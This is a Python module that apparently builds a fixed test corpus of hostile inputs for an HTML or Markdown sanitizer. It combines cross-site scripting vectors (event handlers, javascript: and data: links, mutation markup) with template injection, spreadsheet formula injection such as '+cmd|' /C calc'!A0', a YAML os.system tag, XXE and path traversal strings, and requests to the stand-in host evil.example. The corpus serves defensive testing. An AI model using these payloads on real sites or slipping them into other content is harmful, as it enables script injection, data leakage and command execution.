"""Hostile texts, made by a small grammar: what runs, times how it is hidden, times what carries it.

Whatever a vector tries shows as a dialog (`alert`), or as a request to a host that does not exist (`evil.example`).
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from itertools import cycle, islice

RUN = "alert(1)"
HOST = "//evil.example"
IMG = f"<img src=x onerror={RUN}>"

EVENTS = (
    "abort afterprint animationend animationstart auxclick beforecopy beforeinput beforeunload begin blur cancel canplay change "
    "click close contextmenu copy cuechange cut dblclick drag dragend dragstart drop end error focus focusin formdata "
    "fullscreenchange hashchange input invalid keydown keypress keyup load loadedmetadata loadstart message mousedown mouseenter "
    "mouseover mousewheel online pagehide pageshow paste play pointerdown pointerenter pointerrawupdate popstate progress "
    "readystatechange repeat reset resize scroll scrollend search seeked select selectionchange show start submit timeupdate "
    "toggle touchstart transitionend unhandledrejection unload volumechange webkitanimationstart wheel"
).split()
ELEMENTS = "a abbr b div details img p span table td h2 blockquote svg math video input x-y marquee body html".split()
FIRING = (
    "img src=x onerror", "svg onload", "body onload", "details open ontoggle", "video src=x onerror", "audio src=x onerror",
    "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "marquee onstart", "style onload",
    f"link rel=stylesheet href={HOST}/a.css onerror", "iframe onload", "object data=x onerror", "embed src=x onerror",
    "video autoplay onloadstart src=x", "body onpageshow", "p contenteditable autofocus tabindex=1 onfocus", "img srcset=x onerror",
    "svg><animate attributeName=x dur=1s onbegin", "svg><set attributeName=x onbegin", "video><source onerror",
    "picture><source srcset=x><img onerror", "math><mtext onclick", "input type=image src=x onerror", "isindex autofocus onfocus",
)  # fmt: skip
QUOTES = ("{}", '"{}"', "'{}'", "`{}`", '"{}" /', "{}//")

Disguise = Callable[[str], str]
DISGUISES: tuple[Disguise, ...] = (
    str,
    str.upper,
    lambda s: "".join(c.upper() if i % 2 else c for i, c in enumerate(s)),
    lambda s: "  \t" + s,
    lambda s: s.replace(":", "\t:", 1),
    lambda s: s[:4] + "\n" + s[4:],
    lambda s: "".join(f"&#{ord(c)};" for c in s),
    lambda s: "".join(f"&#x{ord(c):x}" for c in s),
    lambda s: "".join(f"&#{ord(c):07d};" for c in s),
    lambda s: s[:4] + "&Tab;" + s[4:],
    lambda s: s[:4] + "&NewLine;" + s[4:],
    lambda s: s.replace(":", "&colon;", 1),
    lambda s: s.replace(":", "%3A", 1),
    lambda s: s[:4] + "\u200b" + s[4:],
    lambda s: s[:4] + "\u00ad" + s[4:],
    lambda s: s.replace(":", "\uff1a", 1),
    lambda s: "&#1;" + s,
    lambda s: s[:4] + "&#0;" + s[4:],
    lambda s: s.replace("a", "\\a", 1),
)
SCHEMES = (
    f"javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN} xmlns='http://www.w3.org/2000/svg'/>",
    f"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"jar:https:{HOST}!/x",
    f"livescript:{RUN}",
    "file:///etc/passwd",
    "blob:https:" + HOST,
    f"filesystem:https:{HOST}/x",
    f"source:javascript:{RUN}",
    f"post:javascript:{RUN}",
)
CARRIERS = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", "[x]({})", "[x](<{}>)", "![x]({})", "[x][r]\n\n[r]: {}", "<{}>",
    '<img src="{}">', '<area href="{}">', '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>',
    '<iframe src="{}"></iframe>', '<object data="{}"></object>', '<embed src="{}">', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>', '<base href="{}">', '<meta http-equiv=refresh content="0;url={}">', '<link rel=import href="{}">',
    '<blockquote cite="{}">x</blockquote>', '<video poster="{}"></video>', '<input type=image src="{}">', '<body background="{}">',
    '<svg><use href="{}"/></svg>', '<svg><animate xlink:href="#a" attributeName=href values="{}"/><a id=a>x</a></svg>',
    "[x]({} \"title\")", "x[^1]\n\n[^1]: [y]({})", '<a href="x" ping="{}">x</a>', "**[x]({})**", "| a | b |\n|---|---|\n| [x]({}) | y |",
)  # fmt: skip
CLOSERS = (
    '">', "'>", "`>", "</title>", "</script>", "</textarea>", "</style>", "</noscript>", "-->", "--!>", "]]>", "*/", "</a>", '"/>',
    "\\\">", "&quot;>", "</p></div></main>", "</svg>", "</summary>", '" x="', "%>", "?>", "</option></select>", "</template>", "</td></tr></table>",
)  # fmt: skip
OUTER = "svg math style title noscript textarea xmp noembed noframes template select table iframe plaintext".split()
INNER = "style title mglyph mtext desc foreignObject annotation-xml p form a".split()

FOREIGN = (
    f"<img src={HOST}/1.png>", f"![x](https:{HOST}/2.png)", f"![x]({HOST}/3.png)", f"<img srcset='{HOST}/4.png 1x'>", f"<video src={HOST}/5 poster={HOST}/6></video>",
    f"<audio src={HOST}/7 autoplay></audio>", f"<link rel=preload as=image href={HOST}/8>", f"<picture><source srcset={HOST}/9><img src=x></picture>",
    f"<table background={HOST}/10><tr><td>x</table>", f"<iframe src={HOST}/11></iframe>", f"<object data={HOST}/12></object>", f"<svg><image href={HOST}/13 /></svg>",
    f"<svg><use href='{HOST}/14#x'/></svg>", f"<script src={HOST}/15></script>", f"<link rel=stylesheet href={HOST}/16>", f"<style>@import '{HOST}/17'</style>",
    f"<p style='background:url({HOST}/18)'>x</p>", "![x](\\\\evil.example/19.png)", "<img src='/\\evil.example/20.png'>", "<img src='https:evil.example/21.png'>",
    f"<img src='\t{HOST}/22.png'>", f"[r]: https:{HOST}/23.png\n\n![x][r]", f"<base href=https:{HOST}/><img src=24.png>", f"<img src=x lowsrc={HOST}/25 dynsrc={HOST}/26>",
    f"<link rel=dns-prefetch href={HOST}>", f"<link rel=icon href={HOST}/27>", f"<track src={HOST}/28>", f"<p>x</p>{{: style=\"background:url({HOST}/29)\" }}",
    f"![x](x.png){{: src=https:{HOST}/30.png }}", f"<figure><img src=http:{HOST}/31.gif width=1 height=1></figure>", f"<q cite={HOST}/32>x</q>",
    "<img src='&#x2f;&#x2f;evil.example/33.png'>", f"<svg><filter><feImage href={HOST}/34 /></filter></svg>", f"<manifest href={HOST}>", f"<IMG SRC=HTTPS:{HOST}/35>",
)  # fmt: skip
MARKDOWN = (
    f'# x {{: onclick="{RUN}" }}', f'x\n{{: onmouseover="{RUN}" style="x" }}', f"[x](y){{: href=javascript:{RUN} }}", f"![x](y){{ onerror={RUN} }}",
    f'## x {{#a" onclick="{RUN} }}', f"*x*{{: .a onclick={RUN} }}", f'!!! note "{IMG}"\n    x', f'!!! "x onclick={RUN}"\n    x', f'!!! note{IMG}\n    x',
    f"!!! danger x\" onload={RUN} \"t\"\n    x", f'*[HTML]: "><script>{RUN}</script>\n\nHTML', f"*[<b]: {IMG}\n\n<b", f"x[^{IMG}]\n\n[^{IMG}]: y", f"x[^1]\n\n[^1]: {IMG}",
    f'x[^"onclick={RUN}]\n\n[^"onclick={RUN}]: y', f'```{{.py onclick="{RUN}"}}\nx\n```', f'```html" onload="{RUN}\nx\n```', f"~~~ {{ #a style=x onclick={RUN} }}\nx\n~~~",
    f'<div markdown="1" onclick="{RUN}">*x*</div>', f'<p markdown="span" onclick="{RUN}">*x*</p>', f'<details markdown="block" open ontoggle={RUN}>\n\n*x*\n\n</details>',
    f"[{IMG}](x)", f"[x](y \"z\" onclick={RUN})", f'[x](y "z\\" onclick=\\"{RUN}")', f"[x]('javascript:{RUN}')", f"[x](java\nscript:{RUN})", f"[x]( javascript:{RUN} )",
    f"[a]: javascript:{RUN}\n\n[a]", f"[a]: <javascript:{RUN}> \"t\"\n\n[a][]", "![a]\n\n[a]: data:text/html,x", f"<javascript:{RUN}>", f"<data:text/html,{RUN}>", f"<mailto:x\"onclick={RUN}@a.b>",
    f"    {IMG}", f"`{IMG}`{IMG}", f"> {IMG}\n> - {IMG}", f"1. {IMG}", f"| {IMG} | b |\n|---|---|\n| c | {IMG} |", f"<!-- x --!>{IMG}", f"<!--><script>{RUN}</script>-->", f"<!-->{IMG}",
    f"<![CDATA[{IMG}]]>", f"<?xml-stylesheet href='javascript:{RUN}'?>", f"<?php {IMG} ?>", f"<!DOCTYPE x [<!ENTITY e '{IMG}'>]>&e;", f"\\<script>{RUN}\\</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;img src=x onerror={RUN}&amp;gt;", f"<img/src='x'/onerror={RUN}>", f"<img src=x\nonerror\n=\n{RUN}>", f"<img src=x onerror&#61;{RUN}>", f"<\u017fcript>{RUN}</\u017fcript>",
    f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script/x>", f"<SCRIPT>{RUN}</SCRIPT>", f"<<script>{RUN}//<</script>", f"<script>{RUN}", f"<img \"\"\"><script>{RUN}</script>\">", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"<\u200bscript>{RUN}</script>", f"<scr\u00adipt>{RUN}</script>", f"\ue000{IMG}\ue003", f"&#xe003;{IMG}&#xE003;", f"<x-a:script>{RUN}</x-a:script>",
    f"[TOC]\n\n# <a id=x onclick={RUN}>t</a>", f"term\n:   {IMG}", f"{IMG}\n===", f"[x](unit:\"onclick={RUN})", f"[x](post:2024-01-01-v0#\"onclick={RUN})", f"[x](#\"onclick={RUN} x=\")",
)  # fmt: skip
STYLES = (
    f"<style>*{{background:url({HOST}/s1)}}</style>", f"<p style=\"width:expression({RUN})\">x</p>", f"<p style=\"behavior:url({HOST}/s2)\">x</p>", f"<p style=\"-moz-binding:url({HOST}/s3)\">x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>", "<p style='display:none'>ẩn</p>", "<p class='mb-hidden'>ẩn</p>", "<p id=noi-dung>x</p>", "<p hidden>ẩn</p>", f"<svg><style>{IMG}</style></svg>",
    f"<style>@font-face{{font-family:x;src:url({HOST}/s4)}}</style>", f"<link rel=stylesheet href='data:text/css,*{{background:url({HOST}/s5)}}'>", "<font size=+9>x</font>", "<marquee>x</marquee>", "<blink>x</blink>",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{% raw %}", "{% include '/etc/passwd' %}", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "<%= 7*7 %>", "#{7*7}",
    "{count}", "{site}", "{{href('x')}}", "{0.__class__}", "%s%n", "[[${7*7}]]", "*{7*7}", "@{alert(1)}", "{# x #}", "{%- set x = 1 -%}", "\\0\\x00\\u0000",
)  # fmt: skip
LINES = (
    "x\r\nATTACH;VALUE=URI:javascript:alert(1)", "x\nBEGIN:VALARM", "x\\nDESCRIPTION:y", "x;LANGUAGE=y:z", "x\u2028alert(1)//", "x\u2029BEGIN:VEVENT", "x\x85y: z", "--- \nx: y", "...\n", "x: &a [*a]",
    "=HYPERLINK(\"https://evil.example\";\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "'=1+1", "\"=1+1", "=1+1,\"\r\n=2+2", "!!python/object/apply:os.system [x]",
    "]]><x>", "&xxe;", "<!ENTITY a SYSTEM 'file:///etc/passwd'>", "\ufeffx", "\u202ex\u202c", "x\u0000y", "😀\ud7ff", "../../../../etc/passwd", "..\\..\\x", "%2e%2e%2fx", "/dev/zero", "CON", "x" * 290,
)  # fmt: skip


def vectors() -> tuple[str, ...]:
    """All of them, each once, in an order that never changes."""
    return tuple(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from _handlers()
    yield from _links()
    for closer in CLOSERS:
        yield from (closer + IMG, f"{closer}<script>{RUN}</script>")
    yield from _mutations()
    yield from (*FOREIGN, *MARKDOWN, *STYLES, *TEMPLATES, *LINES)
    for markup in (IMG, f"<script>{RUN}</script>", f"<svg/onload={RUN}>"):
        yield from (f"<iframe srcdoc='{html.escape(markup)}'></iframe>", f'<iframe srcdoc="{markup}"></iframe>')
        yield from ("".join(f"&#{ord(c)};" for c in markup), "".join(f"%{ord(c):02x}" for c in markup))
        yield from (markup.replace("<", "\u02c2"), markup.replace("s", "\u017f"), markup[0] + "\u200d" + markup[1:])


def _handlers() -> Iterator[str]:
    """Every event on two elements; those that fire by themselves in every kind of quotes."""
    elements = cycle(ELEMENTS)
    for event in EVENTS:
        for element in islice(elements, 2):
            yield f"<{element} on{event}={RUN}>x</{element}>"
    for opening, quotes in zip(FIRING, cycle(QUOTES), strict=False):
        yield f"<{opening}={quotes.format(RUN)}>"
    yield from (f"<img src=x onerror={quotes.format(RUN)}>" for quotes in QUOTES)


def _links() -> Iterator[str]:
    """Every scheme in every carrier, plain; the first scheme in every disguise in turn over the carriers."""
    carriers = cycle(CARRIERS)
    for scheme in SCHEMES:
        yield from (carrier.format(scheme) for carrier in islice(carriers, 6))
    yield from (carrier.format(SCHEMES[0]) for carrier in CARRIERS)
    for disguise in DISGUISES:
        yield from (carrier.format(disguise(SCHEMES[0])) for carrier in islice(carriers, 8))


def _mutations() -> Iterator[str]:
    """Markup that means one thing where it is cleaned, and another where it is read again."""
    for outer in OUTER:
        for inner in INNER[::2] if outer in ("iframe", "plaintext", "xmp") else INNER:
            yield f"<{outer}><{inner}><!--</{inner}>{IMG}-->"
            yield f'<{outer}></p><{inner}><a title="</{inner}>{IMG}">x'
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{IMG}"
    yield f'<svg></p><style><a id="</style>{IMG}">'
    yield f'<noscript><p title="</noscript>{IMG}">'
    yield f"<a href='x'><a href='javascript:{RUN}'>x"
